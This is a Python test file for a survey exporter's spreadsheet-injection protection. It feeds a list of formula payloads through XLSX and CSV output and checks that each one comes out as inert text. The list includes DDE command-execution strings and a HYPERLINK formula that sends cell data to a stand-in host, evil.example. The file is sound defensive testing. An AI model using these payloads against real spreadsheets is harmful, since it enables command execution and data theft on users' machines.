"""Spreadsheet injection: respondent and contact text never becomes a formula, in XLSX or CSV.

Payloads: OWASP "CSV Injection" examples (DDE, HYPERLINK, leading + - @),
tab/CR/LF leads, leading spaces, full-width and small forms (＝ ＋ － ＠ ﹦ ﹢ ﹣ ﹫),
the minus sign, and control characters XML forbids. They are put in every place
text reaches the workbook; the files are read back with openpyxl, python-calamine,
the raw XML and the csv module.
"""
from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import date

import openpyxl
import pytest
from python_calamine import CalamineWorkbook

from analysis.drivers import QuadrantItem
from analysis.results import Estimate
from exports import adapt
from exports.csv_export import iter_codebook_csv, write_raw_csv
from exports.inputs import (
    CodebookEntry,
    CourtesyRow,
    CourtesyTable,
    Kpi,
    PersonalDataRelease,
    RawColumn,
    RawData,
    ScoreRow,
    SegmentRow,
    Trend,
    TrendSeries,
    VocEntry,
    WorkbookInput,
)
from exports.report import write_workbook
from exports.safety import FORMULA_LEADS, is_dangerous, safe_text, safe_value

PAYLOADS = [
    "=1+1", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"클릭")', "=IMPORTXML(CONCAT(\"http://x/\",A1),\"//a\")",
    "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u3000=1+1", "\u00a0+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(A1)",
    "﹦1+1", "﹢1", "﹣1", "﹫A1", "−1+1", "=1+1\x00\x07", "-", "+", "@", "=",
]


def _est(value: float, n: int = 100) -> Estimate:
    return Estimate(value=value, se=1.0, ci=(value - 2, value + 2), n=n, weighted_n=float(n), statistic="mean")


def _input(personal: PersonalDataRelease | None = None) -> WorkbookInput:
    """Every text field of the workbook input filled with a payload."""
    p = PAYLOADS
    columns = (RawColumn("id", "=ID", "id"), RawColumn("name", "+이름", "name"), RawColumn("phone", "-", "phone"),
               RawColumn("email", "@", "email"), RawColumn("comment", "=의견", "text"),
               RawColumn("choice", "보기", "value", {1: "=SUM(A1)", 2: "정상"}))
    rows = [[f"R{i}", text, text, text, text, 1] for i, text in enumerate(p)]
    quad = [QuadrantItem(text, 5.0 + i, 60.0 + i, "집중 개선 (concentrate here)", True, False)
            for i, text in enumerate(p[:4])]
    return WorkbookInput(
        survey="=설문+1", wave="@2025", generated_on=date(2025, 7, 1), previous_wave="-이전", organisation="+기관",
        kpis=(Kpi(p[0], 70.0),), scores=tuple(ScoreRow("item", text, text, _est(60.0), parent=text) for text in p),
        segments=tuple(SegmentRow(text, text, _est(60.0), -1.0, 0.5) for text in p),
        trend=Trend((p[0], p[1]), (TrendSeries(p[2], (1.0, 2.0)),)), ipa=adapt.ipa(quad),
        courtesy=(CourtesyTable(p[3], tuple(CourtesyRow(text, 5, {"맞이": 10.0}, 80.0) for text in p)),),
        frequencies=(adapt.frequency_table(p[4], p[5], {1: 3, 2: 4}, ((1, p[6]), (2, p[7]))),),
        voc=tuple(VocEntry(text, text, {text: text}) for text in p),
        codebook=tuple(CodebookEntry(text, text, text, ((text, text),)) for text in p),
        raw=RawData(columns, rows), findings=tuple(p[:3]), personal=personal)


def _assert_inert(value) -> None:
    if isinstance(value, str):
        assert not is_dangerous(value), repr(value)
        assert not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", value)


@pytest.mark.parametrize("text", PAYLOADS)
def test_safe_text_neutralises_each_payload(text):
    out = safe_text(text)
    assert not is_dangerous(out) and out.startswith("'")
    assert out[1:] == text.replace("\x00", "").replace("\x07", "")  # the respondent's words are kept


@pytest.mark.parametrize("text", ["친절했어요", "3번 창구", "e-mail 주소", "a=b", "1-2-3", "", "'인용"])
def test_ordinary_text_is_untouched(text):
    assert safe_text(text) == text


def test_safe_value_keeps_numbers_and_joins_lists():
    assert safe_value(-5) == -5 and safe_value(-2.5) == -2.5 and safe_value(float("nan")) is None
    assert safe_value(["=1", 2]) == "'=1;2"
    assert all(safe_text(c + "x").startswith("'") for c in FORMULA_LEADS)


@pytest.mark.parametrize("personal", [None, PersonalDataRelease("민원 회신", "관리자")])
def test_no_formula_anywhere_in_the_workbook(tmp_path, personal):
    path = tmp_path / "payloads.xlsx"
    write_workbook(_input(personal), path)
    book = openpyxl.load_workbook(path)
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                _assert_inert(cell.value)
    cal = CalamineWorkbook.from_path(str(path))
    for name in cal.sheet_names:
        for row in cal.get_sheet_by_name(name).to_python():
            for value in row:
                _assert_inert(value)
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/sheet"):
                assert "<f>" not in z.read(name).decode() and "<f " not in z.read(name).decode()


def test_payload_text_survives_as_literal_text(tmp_path):
    path = tmp_path / "payloads.xlsx"
    write_workbook(_input(PersonalDataRelease("민원 회신", "관리자")), path)
    rows = CalamineWorkbook.from_path(str(path)).get_sheet_by_name("원자료").to_python()
    comments = [r[4] for r in rows[1:]]
    assert comments[1] == "'=cmd|' /C calc'!A0"
    assert comments[PAYLOADS.index("＝1+1")] == "'＝1+1"
    ws = openpyxl.load_workbook(path)["원자료"]
    assert ws["F2"].value == 1  # codes stay numbers


def test_header_and_footer_cannot_carry_codes(tmp_path):
    path = tmp_path / "payloads.xlsx"
    inp = _input()
    write_workbook(WorkbookInput(**{**inp.__dict__, "survey": "&\"Arial\"&K=1+1 설문"}), path)
    ws = openpyxl.load_workbook(path)["요약"]
    assert ws.oddHeader.left.text.startswith("&&")


def test_csv_has_no_live_formula(tmp_path):
    path = tmp_path / "raw.csv"
    write_raw_csv(path, _input(PersonalDataRelease("민원 회신", "관리자")).raw)
    text = path.read_text(encoding="utf-8")
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text[1:])))
    assert len(rows) == len(PAYLOADS) + 1
    for row in rows:
        for value in row:
            _assert_inert(value)
    codebook = "".join(iter_codebook_csv(_input().codebook))
    for row in csv.reader(io.StringIO(codebook[1:])):
        for value in row:
            _assert_inert(value)
